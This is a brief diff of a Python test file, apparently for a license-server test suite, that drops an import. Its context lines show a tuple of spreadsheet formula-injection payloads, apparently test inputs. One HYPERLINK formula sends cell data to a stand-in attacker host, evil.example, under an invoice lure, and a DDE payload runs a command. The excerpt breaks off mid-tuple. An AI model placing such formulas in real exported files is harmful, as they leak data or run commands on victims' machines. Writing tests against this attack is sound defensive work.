@@ -10,7 +10,6 @@ import pytest
 
 from tests.support.license_server import LiveLicenseServer
 
-from .conftest import START
 
 IP_PORT = "01-00010-001"
 FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click for your invoice")', "+1+cmd|' /C calc'!A0",
